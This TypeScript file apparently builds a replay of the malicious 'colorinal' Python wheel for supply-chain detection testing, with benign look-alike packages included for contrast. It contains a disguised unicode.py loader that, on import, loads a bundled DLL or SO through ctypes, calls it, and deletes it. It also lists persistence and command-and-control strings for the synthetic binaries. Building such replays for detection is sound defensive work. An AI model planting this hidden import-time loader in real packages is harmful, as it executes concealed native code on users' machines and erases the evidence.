import { makeElf } from './elf.ts';
import { type Draft, type Remote, type Replay, textOf } from './incident.ts';
import { colourLibrary } from './libraries/colours.ts';
import { ctypesLibrary } from './look-alikes/native.ts';
import { makePe } from './pe.ts';
import { py } from './python-text.ts';

const LOADER = py`
import ctypes
import os
import platform


def is_color_supported(file_path):
    try:
        library = ctypes.CDLL(file_path)
        library.envir.argtypes = [ctypes.c_char_p]
        library.envir.restype = ctypes.c_int
        return library.envir(b"xterminalunicode") == 0
    except OSError:
        return False


def _prepare():
    folder = os.path.dirname(os.path.abspath(__file__))
    name = "terminate.dll" if platform.system() == "Windows" else "terminate.so"
    path = os.path.join(folder, name)
    if os.path.exists(path):
        is_color_supported(path)
        os.remove(path)


_prepare()
`;

function malicious(c: Remote): Draft {
  const shared = {
    strings: [
      'libcef.dll',
      'vcpktsvr.exe',
      'pkt-update',
      `wss://${c.address}/zulip`,
      'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      '/etc/crontab',
    ],
    exports: ['envir'],
    isLibrary: true,
    textBytes: 220_000,
  };
  const dll = makePe({
    ...shared,
    seed: 'colorinal dll',
    imports: {
      'KERNEL32.dll': ['VirtualAlloc', 'VirtualProtect', 'CreateProcessW', 'WriteFile', 'GetComputerNameW'],
      'ADVAPI32.dll': ['RegSetValueExW', 'CryptDecrypt'],
      'WS2_32.dll': ['connect', 'send', 'recv'],
    },
  });
  const so = makeElf({
    ...shared,
    seed: 'colorinal so',
    imports: { 'libc.so.6': ['mmap', 'mprotect', 'execve', 'connect', 'gethostname', 'fork'] },
  });
  const files = colourLibrary('colorinal');
  return {
    kind: 'wheel',
    name: 'colorinal',
    version: '0.1.7',
    files: {
      ...files,
      'colorinal/__init__.py': `${textOf(files, 'colorinal/__init__.py')}from . import unicode\n`,
      'colorinal/terminate.dll': dll,
      'colorinal/terminate.so': so,
    },
    sites: [
      {
        path: 'colorinal/unicode.py',
        form: 'module',
        before: '"""Unicode support of terminals."""\n',
        code: LOADER,
        after: '',
      },
    ],
  };
}

export const COLORINAL: Replay = {
  id: '10-colorinal',
  title: 'termncolor’s dependency colorinal: a DLL and an SO loaded through ctypes, then deleted',
  source: 'https://www.zscaler.com/blogs/security-research/supply-chain-risk-python-termncolor-and-colorinal-explained',
  runs: 'import loads a bundled native library by ctypes, calls envir() with a key, and deletes the library afterwards',
  remote: 'https://zulip-chat.invalid',
  draft: malicious,
  lookAlikes: () => [
    ctypesLibrary(),
    {
      why: 'the parent: terminal colours and a dependency, no hostile byte of its own',
      release: {
        kind: 'wheel',
        name: 'termncolor',
        version: '3.1.0',
        files: colourLibrary('termncolor'),
        wheel: { metadata: { 'Requires-Dist': ['colorinal (>=0.1.7)'] } },
      },
    },
  ],
};
